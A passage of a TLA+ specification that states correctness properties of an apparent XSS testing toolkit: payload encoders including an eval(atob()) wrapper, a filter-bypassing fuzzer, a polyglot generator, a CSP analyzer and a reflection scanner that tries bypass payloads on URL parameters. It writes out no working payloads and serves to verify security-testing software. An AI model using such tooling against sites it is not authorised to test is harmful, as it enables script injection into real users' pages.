         ELSE <<s[i]>> \o Unescaped(s, i + 1, prefix, digits)
unquote(s) == Unescaped(s, 1, <<"%">>, 2)
html_unescape(s) ==
  Replace(Replace(Replace(Replace(Replace(s,
    Chars("&lt;"), Chars("<")), Chars("&gt;"), Chars(">")),
    Chars("&quot;"), Chars("\"")), Chars("&#x27;"), Chars("'")),
    Chars("&amp;"), Chars("&"))
B64Index(c) == IF c = "=" THEN 0 ELSE (CHOOSE k \in DOMAIN B64Alphabet : B64Alphabet[k] = c) - 1
RECURSIVE b64decode_from(_, _)
b64decode_from(e, i) ==
  IF i + 3 > Len(e) THEN <<>>
  ELSE <<CharOf(B64Index(e[i]) * 4 + (B64Index(e[i + 1]) \div 16))>>
       \o (IF e[i + 2] = "=" THEN <<>>
           ELSE <<CharOf((B64Index(e[i + 1]) % 16) * 16 + (B64Index(e[i + 2]) \div 4))>>)
       \o (IF e[i + 3] = "=" THEN <<>>
           ELSE <<CharOf((B64Index(e[i + 2]) % 4) * 64 + B64Index(e[i + 3]))>>)
       \o b64decode_from(e, i + 4)
Decoded(encoding, encoded) ==
  CASE encoding = "html_entities" -> html_unescape(encoded)
    [] encoding = "url_encoding" -> unquote(encoded)
    [] encoding = "double_url_encoding" -> unquote(unquote(encoded))
    [] encoding = "unicode_encoding" -> Unescaped(encoded, 1, Chars("\\u"), 4)
    [] encoding = "hex_encoding" -> Unescaped(encoded, 1, Chars("\\x"), 2)
    [] encoding = "base64_encoding" ->
         b64decode_from(SubSeq(encoded, Len(Chars("eval(atob('")) + 1, Len(encoded) - 3), 1)

\* C14: for the six encodings HTML entities, URL, double URL, Unicode escape,
\* hex escape and Base64, decoding what _apply_encoding returned gives back
\* the content it was called with.
C14_RoundTrip ==
  pg_encoding.encoding \in {"html_entities", "url_encoding", "double_url_encoding",
                            "unicode_encoding", "hex_encoding", "base64_encoding"}
    => Decoded(pg_encoding.encoding, pg_encoding.encoded) = pg_encoding.content
\* the same for the five encodings other than HTML entities
C14_RoundTripButHtml ==
  pg_encoding.encoding \in {"url_encoding", "double_url_encoding",
                            "unicode_encoding", "hex_encoding", "base64_encoding"}
    => Decoded(pg_encoding.encoding, pg_encoding.encoded) = pg_encoding.content

(***************************************************************************)
(* Claims about ContextAwareFuzzer.detect_context                          *)
(***************************************************************************)
\* response[start:end] around an occurrence of the marker at `position`
WindowAt(response, position, marker) ==
  SubSeq(response, Max(0, position - 100) + 1,
         Min(Len(response), position + Len(marker) + 100))
\* the patterns of the table that match in the window of an occurrence
MatchingAt(response, position, marker) ==
  {k \in DOMAIN context_patterns :
     Search(context_patterns[k].pattern, WindowAt(response, position, marker), marker).ok}

\* C15: when the marker occurs in the response and a context pattern matches
\* at some occurrence, detect_context returns the fingerprint of the earliest
\* such occurrence, built from the first pattern of the table that matches
\* there (its context type, prefix and suffix); occurrences without a match
\* are skipped and later occurrences do not change the result.  A pattern
\* matches at an occurrence when re.search finds it in the window of 100
\* characters to each side of the occurrence.
C15_EarliestMatchingOccurrence ==
  LET response == fz_detected.response
      marker == fz_detected.marker
      occurrences == {i \in 0..(Len(response) - 1) : HasAt(response, marker, i + 1)}
      matching == {i \in occurrences : MatchingAt(response, i, marker) # {}}
      expected(position, k) ==
        /\ fz_detected.fingerprint.context_type = context_patterns[k].context_type
        /\ fz_detected.fingerprint.prefix =
             Search(context_patterns[k].pattern, WindowAt(response, position, marker),
                    marker).prefix
        /\ fz_detected.fingerprint.suffix =
             Search(context_patterns[k].pattern, WindowAt(response, position, marker),
                    marker).suffix
      first(position) ==
        expected(position, CHOOSE k \in MatchingAt(response, position, marker) :
                             \A j \in MatchingAt(response, position, marker) : k <= j)
  IN (fz_detected.outcome = "returned" /\ matching # {}) =>
       first(CHOOSE i \in matching : \A j \in matching : i <= j)
\* the first occurrence is inside a single-quoted string; the second, beyond
\* its window, is inside a tag, which the first pattern of the table matches
C15_Witness ==
  /\ fz_detected.outcome = "returned"
  /\ fz_detected.response =
       Chars("'CANARY'") \o [i \in 1..101 |-> "Z"] \o Chars("<b>CANARY</b>")
  /\ MatchingAt(fz_detected.response, 1, fz_detected.marker) = {5}
  /\ 1 \in MatchingAt(fz_detected.response, 112, fz_detected.marker)
  /\ fz_detected.fingerprint.context_type = "js_string_single"

\* C16: when the response holds the HTML-encoded (URL-encoded) marker and not
\* the marker itself, the returned fingerprint lists the html_encoding
\* (url_encoding) filter and requires the html (url) encoding.
C16_EncodingRecorded ==
  LET response == fz_detected.response
      marker == fz_detected.marker
      fingerprint == fz_detected.fingerprint
  IN (fz_detected.outcome = "returned" /\ ~Contains(response, marker)) =>
       /\ Contains(response, html_escape(marker)) =>
            /\ "html_encoding" \in Range(fingerprint.filters_detected)
            /\ fingerprint.encoding_required = "html"
       /\ (Contains(response, quote(marker, {"/"})) /\ ~Contains(response, html_escape(marker)))
            => /\ "url_encoding" \in Range(fingerprint.filters_detected)
               /\ fingerprint.encoding_required = "url"

\* C17: a fingerprint returned with no filter detected allows every printable
\* character, whether the marker was absent, present without a pattern match,
\* or present with one.
C17_PrintableWhenNoFilter ==
  (fz_detected.outcome = "returned" /\ fz_detected.fingerprint.filters_detected = <<>>) =>
    fz_detected.fingerprint.allowed_chars = Printable


(***************************************************************************)
(* Claims about generate_payloads                                          *)
(***************************************************************************)
\* the position at which a string is generated first
FirstGenerated(payload) ==
  CHOOSE i \in DOMAIN fz_generated.adapted_payloads :
    /\ fz_generated.adapted_payloads[i] = payload
    /\ \A j \in 1..(i - 1) : fz_generated.adapted_payloads[j] # payload

\* C18: the list generate_payloads returns holds no string twice, holds every
\* string that was generated (variants and mutations of every base payload),
\* and holds them in the order in which each was generated first.
C18_UniqueInFirstGenerationOrder ==
  fz_generated.outcome = "returned" =>
    LET returned == fz_generated.returned
    IN /\ \A i, j \in DOMAIN returned : returned[i] = returned[j] => i = j
       /\ Range(returned) = Range(fz_generated.adapted_payloads)
       /\ \A i, j \in DOMAIN returned :
            i < j => FirstGenerated(returned[i]) < FirstGenerated(returned[j])

\* a call in which a string was generated more than once, the second time
\* after another string that is new
C18_Witness ==
  /\ fz_generated.outcome = "returned"
  /\ Len(fz_generated.returned) > 1
  /\ \E i, j, k \in DOMAIN fz_generated.adapted_payloads :
       /\ i < j /\ j < k
       /\ fz_generated.adapted_payloads[i] = fz_generated.adapted_payloads[k]
       /\ fz_generated.adapted_payloads[j] \notin
            {fz_generated.adapted_payloads[m] : m \in 1..(j - 1)}

\* C19: when the context has blocked characters, no returned payload
\* contains one of them.
C19_NoBlockedCharReturned ==
  (fz_generated.outcome = "returned" /\ fz_generated.context.blocked_chars # {}) =>
    \A i \in DOMAIN fz_generated.returned :
      Range(fz_generated.returned[i]) \cap fz_generated.context.blocked_chars = {}

(***************************************************************************)
(* Claims about the base combinations of generate_polyglots                *)
(***************************************************************************)
\* the base components (by position) whose contexts intersect the targets
SuitableFor(target_contexts) ==
  {k \in DOMAIN base_components : base_components[k].contexts \cap target_contexts # {}}
\* component a ranks above component b: by priority, then by overlap size
RanksAbove(a, b, target_contexts) ==
  \/ base_components[a].priority > base_components[b].priority
  \/ /\ base_components[a].priority = base_components[b].priority
     /\ Cardinality(base_components[a].contexts \cap target_contexts)
          > Cardinality(base_components[b].contexts \cap target_contexts)
\* the suitable components that fewer than 8 suitable components rank above
HighestRanked(target_contexts) ==
  {k \in SuitableFor(target_contexts) :
     Cardinality({j \in SuitableFor(target_contexts) : RanksAbove(j, k, target_contexts)}) < 8}
\* the combinations of base components the candidates of the call are built from
BaseCombinations == {pg_candidates[k].components : k \in DOMAIN pg_candidates}

\* C20: every polyglot generate_polyglots returns is built from 1 to 3
\* distinct base components, each suiting the targets and each among the 8
\* highest-ranked suitable components; a call enumerates at most 92 base
\* combinations; a target set that no component suits gives an empty result.
C20_BoundedBaseCombinations ==
  pg_outcome = "returned" =>
    /\ \A k \in DOMAIN pg_returned :
         LET components == pg_returned[k].components
         IN /\ Len(components) \in 1..3
            /\ \A i, j \in DOMAIN components : components[i] = components[j] => i = j
            /\ \A i \in DOMAIN components :
                 \E b \in HighestRanked(pg_args.target_contexts) :
                   base_components[b] = components[i]
    /\ Cardinality(BaseCombinations) <= 92
    /\ SuitableFor(pg_args.target_contexts) = {} => pg_returned = <<>>

\* a call with more than 8 suitable components, all 92 combinations of the
\* first 8 among its candidates, and a returned polyglot of several components
C20_Witness ==
  /\ pg_outcome = "returned"
  /\ Cardinality(SuitableFor(pg_args.target_contexts)) > 8
  /\ SuitableFor(pg_args.target_contexts) # HighestRanked(pg_args.target_contexts)
  /\ Cardinality(BaseCombinations) = 92
  /\ \E k \in DOMAIN pg_returned : Len(pg_returned[k].components) > 1

(***************************************************************************)
(* Claims about the per-pattern error handling of the bypass scan          *)
(***************************************************************************)
\* C23: a pattern whose evaluation raises re.error is skipped and the other
\* patterns are still evaluated: the returned list names every technique
\* whose own pattern is well-formed and matches the payload, and none whose
\* pattern raised.
C23_BadPatternSkipped ==
  an_scan.outcome = "returned" =>
    \A k \in DOMAIN bypass_patterns :
      (\E i \in DOMAIN an_scan.techniques : an_scan.techniques[i] = bypass_patterns[k])
        <=> /\ bypass_patterns[k] \notin an_scan.malformed
            /\ PatternMatches(bypass_patterns[k], an_payload, lower(an_payload))

\* a scan in which the first pattern raised and a later pattern matched
C23_Witness ==
  /\ an_scan.outcome = "returned"
  /\ "case_variation" \in an_scan.malformed
  /\ "filter_evasion" \notin an_scan.malformed
  /\ PatternMatches("case_variation", an_payload, lower(an_payload))
  /\ \E i \in DOMAIN an_scan.techniques : an_scan.techniques[i] = "filter_evasion"

(***************************************************************************)
(* Claims about concurrent fuzz_context runs without a mutex               *)
(***************************************************************************)
\* C28: two fuzz_context runs at the same time on one instance lose no
\* learned entry: once both have returned, every payload of an attempt that
\* either run classified successful is in successful_payloads under the
\* context of its run.
C28_NoLearnedEntryLost ==
  (\A r \in Runs : fz_run[r].pc = "returned" /\ fz_run[r].self = SharedFuzzer) =>
    \A r \in Runs : \A k \in DOMAIN fz_run[r].results :
      fz_run[r].results[k].success =>
        /\ fz_run[r].context.context_type \in DOMAIN successful_payloads[SharedFuzzer]
        /\ \E i \in DOMAIN successful_payloads[SharedFuzzer][fz_run[r].context.context_type] :
             successful_payloads[SharedFuzzer][fz_run[r].context.context_type][i]
               = fz_run[r].results[k].payload

DirectiveTokens(csp_header) ==
  LET tokens(pieces) == [i \in DOMAIN pieces |-> split_whitespace(pieces[i])]
  IN tokens(split(csp_header, ";"))

\* the kind a token is of: a quoted keyword, a 'nonce-...' token, a 'sha...'
\* token, or else a source expression
KindOf(token) ==
  IF token \in CSPKeyword THEN "keywords"
  ELSE IF Quoted(token) /\ HasAt(token, Chars("'nonce-"), 1) THEN "nonces"
  ELSE IF Quoted(token) /\ HasAt(token, Chars("'sha"), 1) THEN "hashes"
  ELSE "sources"

\* the collections of a directive configuration that hold a token
RecordedIn(token, config) ==
  (IF token \in config.keywords THEN {"keywords"} ELSE {})
    \cup (IF KindOf(token) = "nonces" /\ SubSeq(token, 8, Len(token) - 1) \in config.nonces
            THEN {"nonces"} ELSE {})
    \cup (IF KindOf(token) = "hashes" /\ SubSeq(token, 2, Len(token) - 1) \in config.hashes
            THEN {"hashes"} ELSE {})
    \cup (IF token \in config.sources THEN {"sources"} ELSE {})

\* C22: every token that follows a recognised directive name in the header is
\* recorded in exactly one collection of that directive's configuration, the
\* one of its kind: keywords, nonces, hashes, or else sources.
C22_EveryTokenRecorded ==
  cs_analysis.outcome = "returned" =>
    LET recorded(tokens, directives) ==
          \A i \in DOMAIN tokens :
            (tokens[i] # <<>> /\ lower(tokens[i][1]) \in CSPDirective) =>
              \A k \in 2..Len(tokens[i]) :
                RecordedIn(tokens[i][k], directives[lower(tokens[i][1])])
                  = {KindOf(tokens[i][k])}
    IN recorded(DirectiveTokens(cs_analysis.result.policy_header),
                cs_analysis.result.directives)

\* the tokens of the effective script directive of a header: those that follow
\* script-src, or those that follow default-src when the header has no
\* script-src; of a name that occurs twice, the occurrence the analyzer keeps
EffectiveScriptTokens(csp_header) ==
  LET named(tokens, name) ==
        {i \in DOMAIN tokens : tokens[i] # <<>> /\ lower(tokens[i][1]) = name}
      kept(tokens, is) == Range(Tail(tokens[CHOOSE i \in is : \A j \in is : j <= i]))
      effective(tokens) ==
        IF named(tokens, SCRIPT_SRC) # {} THEN kept(tokens, named(tokens, SCRIPT_SRC))
        ELSE IF named(tokens, DEFAULT_SRC) # {} THEN kept(tokens, named(tokens, DEFAULT_SRC))
        ELSE {}
  IN effective(DirectiveTokens(csp_header))

C25_CorpusNeverMutated ==
  lb_library.constructed =>
    /\ lb_library.payloads = LoadPayloads
    /\ lb_library = NewPayloadLibrary

\* two operations have run on the library, a search among them, the last one
\* get_best_payloads, which walked the whole corpus and returned payloads
C25_Witness ==
  /\ lb_library.constructed
  /\ lb_queries = 2
  /\ Len(lb_searches) = 1
  /\ lb_call.op = "get_best_payloads"
  /\ Len(lb_call.returned) = 10

\* the term occurs, in any case, in the text, the description, the source or
\* the notes of the payload
TermOccursIn(term, payload) ==
  LET occurs(term_lower) ==
        \/ Contains(lower(payload.payload), term_lower)
        \/ Contains(lower(Chars(payload.description)), term_lower)
        \/ Contains(lower(Chars(payload.source)), term_lower)
        \/ Contains(lower(Chars(payload.notes)), term_lower)
  IN occurs(lower(Chars(term)))

\* C26: search_payloads returns a list for every term; every payload of the
\* list contains the term, case-insensitively, in its text, description,
\* source or notes; a term that occurs nowhere in the corpus gives the empty
\* list; and a term and its upper-case form give the same payloads.
C26_SearchReturnsMatches ==
  \A i \in DOMAIN lb_searches :
    /\ lb_searches[i].outcome = "returned"
    /\ \A k \in DOMAIN lb_searches[i].returned :
         TermOccursIn(lb_searches[i].args[1],
                      lb_library.payloads[lb_searches[i].returned[k][1]]
                                         [lb_searches[i].returned[k][2]])
    /\ (\A r \in Range(AllPayloads(lb_library.payloads)) :
          ~TermOccursIn(lb_searches[i].args[1], lb_library.payloads[r[1]][r[2]]))
         => lb_searches[i].returned = <<>>
    /\ \A j \in DOMAIN lb_searches :
         (Chars(lb_searches[j].args[1])
            = [k \in DOMAIN Chars(lb_searches[i].args[1]) |->
                 upper_char(Chars(lb_searches[i].args[1])[k])])
           => lb_searches[j].returned = lb_searches[i].returned

(***************************************************************************)
(* Claims about ReflectionScanner                                          *)
(***************************************************************************)
\* the tests a scan_url call has made: each with the parameter, the phase,
\* the position in the phase's list, the payload, and the result it yielded
\* (none when an exception left _test_single_payload)
TestsOf(w) == sc_run[w].calls

\* the transport failed at the request of the test
TransportFailed(w, test) == test.n \in SiteOf(w).down

\* the call goes on after the i-th test: with the next payload of the list
\* the test belongs to, if there is one, and with the next parameter, if
\* there is one
GoesOnAfter(w, i) ==
  LET run == sc_run[w]
      test == run.calls[i]
      last_of_list == test.k = Len(PhasePayloads(NewPayloadLibrary, test.phase))
      last_parameter == test.p = Len(run.parameters)
  IN /\ ~last_of_list =>
          /\ i < Len(run.calls)
          /\ run.calls[i + 1].p = test.p
          /\ run.calls[i + 1].phase = test.phase
          /\ run.calls[i + 1].k = test.k + 1
     /\ ~last_parameter =>
          \E j \in (i + 1)..Len(run.calls) :
            /\ run.calls[j].p = test.p + 1
            /\ run.calls[j].phase = "basic"
            /\ run.calls[j].k = 1
     /\ run.tested = Len(run.parameters)
     /\ Len(run.returned) = Len(run.calls)
     /\ run.returned[i] = test.outcome[1]
     /\ \E j \in DOMAIN sc_scanner.results : sc_scanner.results[j] = test.outcome[1]

\* C24: a transport error raised by the HTTP call of a payload test never
\* leaves the scanner: no exception leaves _test_single_payload, the test
\* yields a result with success False, confidence 0 and the message of the
\* error, and the finished scan_url call has gone on with the next payload
\* and the next parameter and returns the result among the others.
C24_TransportErrorsContained ==
  \A w \in Workers :
    /\ sc_run[w].outcome # "failed"
    /\ \A i \in DOMAIN TestsOf(w) :
         TransportFailed(w, TestsOf(w)[i]) =>
           /\ TestsOf(w)[i].outcome # <<>>
           /\ TestsOf(w)[i].outcome[1].success = FALSE
           /\ TestsOf(w)[i].outcome[1].confidence = 0
           /\ TestsOf(w)[i].outcome[1].error = SessionGet(SiteOf(w), TestsOf(w)[i].n, <<>>).error
           /\ TestsOf(w)[i].outcome[1].url = sc_run[w].url
           /\ sc_run[w].pc = "returned" => GoesOnAfter(w, i)

\* a scan of two parameters has returned; the transport failed at its first
\* six requests, which took all five basic payloads of the first parameter
\* and the first of the second, and a later test of the second parameter
\* succeeded
C24_Witness ==
  /\ sc_run[1].pc = "returned"
  /\ sc_sites[1].down = {1, 2, 3, 4, 5, 6}
  /\ Len(sc_run[1].parameters) = 2
  /\ Len(sc_run[1].returned) = 10
  /\ sc_run[1].returned[1].error = "Read timed out."
  /\ sc_run[1].returned[2].error = "Connection failed"
  /\ sc_run[1].returned[6].parameter = sc_run[1].parameters[2]
  /\ sc_run[1].returned[7].success
  /\ sc_scanner.scan_stats.total_requests = 10
  /\ sc_scanner.scan_stats.parameters_tested = 2

\* the tests of the call made for its p-th parameter, in the order made
ParameterTests(w, p) == SelectSeq(TestsOf(w), LAMBDA test : test.p = p)

\* the test yielded a result with success True
Succeeded(test) == test.outcome # <<>> /\ test.outcome[1].success

\* the call has left _test_parameter for its p-th parameter
ParameterFinished(w, p) ==
  \/ sc_run[w].p > p
  \/ /\ sc_run[w].p = p
     /\ sc_run[w].pc \in {"read_parameters_tested", "write_parameters_tested",
                          "extend_results", "returned"}

\* the order of the tests of one parameter: basic the tests with a basic
\* payload, bypass those with a bypass payload
TestedInOrder(tests, basic, bypass, finished) ==
  /\ tests = basic \o bypass
  /\ Len(basic) <= 5
  /\ Len(bypass) <= 3
  /\ Len(tests) <= 8
  /\ \A i \in DOMAIN basic : basic[i].payload = LoadPayloads.basic[i].payload
  /\ \A i \in DOMAIN bypass : bypass[i].payload = LoadPayloads.bypass[i].payload
  /\ \A i \in DOMAIN basic : i < Len(basic) => ~Succeeded(basic[i])
  /\ bypass # <<>> => basic # <<>> /\ Succeeded(basic[Len(basic)])
  /\ finished =>
       IF \E i \in DOMAIN basic : Succeeded(basic[i])
         THEN Len(bypass) = Min(3, Len(LoadPayloads.bypass))
         ELSE /\ Len(tests) = Min(5, Len(LoadPayloads.basic))
              /\ bypass = <<>>

\* C29: for each parameter the basic payloads are tried in the order of the
\* library, at most 5 of them, and none after the first that succeeds; the
\* bypass payloads, at most 3, in the order of the library, come after the
\* basic ones and only when the last basic payload tried succeeded; a
\* parameter takes at most 8 requests, and when no basic payload succeeds
\* exactly min(5, number of basic payloads), none of them a bypass request.
C29_BasicThenBypass ==
  \A w \in Workers :
    \A p \in DOMAIN sc_run[w].parameters :
      sc_run[w].outcome # "failed" =>
        TestedInOrder(ParameterTests(w, p),
                      SelectSeq(ParameterTests(w, p), LAMBDA test : test.phase = "basic"),
                      SelectSeq(ParameterTests(w, p), LAMBDA test : test.phase = "bypass"),
                      ParameterFinished(w, p))

\* a scan of two parameters has returned from a site that blocks values
\* with "script" in them: for each parameter the first basic payload failed,
\* the second succeeded and the three bypass payloads followed
C29_Witness ==
  /\ sc_run[1].pc = "returned"
  /\ sc_sites[1].mode = "block_script"
  /\ sc_sites[1].down = {}
  /\ Len(sc_run[1].parameters) = 2
  /\ Len(ParameterTests(1, 1)) = 5
  /\ Len(ParameterTests(1, 2)) = 5
  /\ ~Succeeded(TestsOf(1)[1])
  /\ Succeeded(TestsOf(1)[2])
  /\ TestsOf(1)[2].phase = "basic"
  /\ \A i \in 3..5 : TestsOf(1)[i].phase = "bypass"
  /\ TestsOf(1)[6].phase = "basic"

\* the sum of the per-worker values count[w]
TotalOf(count) == SumSeq([w \in 1..Cardinality(Workers) |-> count[w]])

\* every result a scan_url call returned is in self.results
ResultsKept ==
  \A w \in Workers :
    \A i \in DOMAIN sc_run[w].returned :
      \E j \in DOMAIN sc_scanner.results : sc_scanner.results[j] = sc_run[w].returned[i]

\* C27: when scan_multiple_urls has finished, no update of the shared state
\* is lost: total_requests is the number of payload tests all workers made,
\* parameters_tested the number of parameters they tested, and self.results
\* holds every result a worker's scan_url returned.
C27_NoUpdateLost ==
  sc_pool.pc = "returned" =>
    /\ sc_scanner.scan_stats.total_requests = TotalOf([w \in Workers |-> Len(TestsOf(w))])
    /\ sc_scanner.scan_stats.parameters_tested = TotalOf([w \in Workers |-> sc_run[w].tested])
    /\ ResultsKept

====
